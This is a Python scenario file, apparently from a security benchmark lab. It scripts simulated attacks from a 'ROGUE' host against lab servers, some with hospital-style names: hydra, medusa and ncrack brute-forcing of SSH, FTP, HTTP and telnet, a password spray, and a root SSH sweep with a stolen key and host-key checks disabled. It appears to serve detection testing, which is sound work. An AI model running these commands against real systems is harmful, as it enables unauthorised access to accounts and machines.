"""Passwords guessed by the usual tools."""

from benchmarks.quality.lab import house
from benchmarks.quality.lab.scenario import scenario
from benchmarks.quality.lab.stage import Stage

ROGUE = house.ROGUE
APP, WEB = house.WARD["app"][0], house.WARD["web"][0]


def _words(stage: Stage, count: int) -> object:
    return stage.list_of("words", [f"Password{n}" for n in range(count)])


def _hydra(stage: Stage, *words: object) -> None:
    stage.at(ROGUE, "hydra", "-I", "-t", 4, *words, timeout_s=90)


@scenario("hydra-ssh", "hydra", by=(ROGUE,))
def hydra_ssh(stage: Stage) -> None:
    """One account, sixty passwords."""
    _hydra(stage, "-l", "root", "-P", _words(stage, 60), f"ssh://{APP}")


@scenario("hydra-ftp", "hydra", by=(ROGUE,))
def hydra_ftp(stage: Stage) -> None:
    """One account, forty passwords."""
    _hydra(stage, "-l", "m.keller", "-P", _words(stage, 40), f"ftp://{APP}")


@scenario("hydra-http", "hydra", by=(ROGUE,))
def hydra_http(stage: Stage) -> None:
    """A page behind a password."""
    _hydra(stage, "-l", "admin", "-P", _words(stage, 100), f"http-get://{WEB}/office/about")


@scenario("medusa-ssh-slow", "medusa", by=(ROGUE,))
def medusa_ssh_slow(stage: Stage) -> None:
    """A guess every three minutes for an hour and a quarter."""
    for number in range(25):
        stage.at(ROGUE, "medusa", "-h", APP, "-u", "root", "-p", f"Winter{number}", "-M", "ssh", timeout_s=15)
        stage.wait(180)


@scenario("ncrack-telnet", "ncrack", by=(ROGUE,))
def ncrack_telnet(stage: Stage) -> None:
    """Terminals of two machines."""
    device = house.WARD["ultrasound"][0]
    users = stage.list_of("users", ["admin", "root", "service"])
    stage.at(ROGUE, "ncrack", "-U", users, "-P", _words(stage, 10), "-p", "telnet", APP, device, timeout_s=60)


@scenario("ssh-spray", "hydra", by=(ROGUE,))
def ssh_spray(stage: Stage) -> None:
    """One password, forty accounts."""
    users = stage.list_of("people", [f"person{n:02d}" for n in range(40)])
    _hydra(stage, "-L", users, "-p", "Autumn2026", f"ssh://{APP}")


@scenario("ssh-fan-out", "ssh", by=(ROGUE,))
def ssh_fan_out(stage: Stage) -> None:
    """With a key that was found, on all servers in turn."""
    for address in stage.addresses(("app", "web", "files", "pacs", "his", "engine")):
        ssh = (
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-i",
            stage.folder / "key",
        )
        stage.at(ROGUE, *ssh, f"root@{address}", "id; ps")
        stage.wait(45)
